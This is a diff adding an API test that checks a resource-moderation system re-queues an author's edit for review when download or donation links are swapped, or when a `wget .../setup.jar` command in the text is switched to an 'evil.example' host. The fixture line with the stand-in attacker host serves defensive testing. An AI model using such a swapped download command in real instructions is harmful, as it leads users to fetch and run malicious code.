@@ -104,6 +104,21 @@ describe('an edit', () => {
     expect(fewer.body.data).toMatchObject({ pending_revision: null, status: 'approved_and_verified' })
   })
 
+  test('of a command, or of which link is which, is never trivial', async () => {
+    const text = 'длинный рассказ о плагине '.repeat(100)
+    const content = (host: string) => `\`wget ${host}/setup.jar\`\n\n${text}`
+    const links = { source: 'https://example.com/a', donate: 'https://example.org/b' }
+    const resource = await aResource(api, { content: content('good.example'), links })
+    const path = `/api/resources/${resource.id}`
+    const pending = async (change: object) => {
+      const edited = await as(resource.authorRow)<One>('PATCH', path, change)
+      return edited.body.data.pending_revision !== null
+    }
+    expect(await pending({ links: { source: links.donate, donate: links.source } })).toBe(true)
+    expect(await pending({ links, content: content('evil.example') })).toBe(true)
+    expect(await pending({ links, content: `${content('good.example')} Конец.` })).toBe(false)
+  })
+
   test('is refused to strangers, to staff and to those without a login', async () => {
     const resource = await aResource(api, { author })
     const patch = (who: { id: number } | null) =>
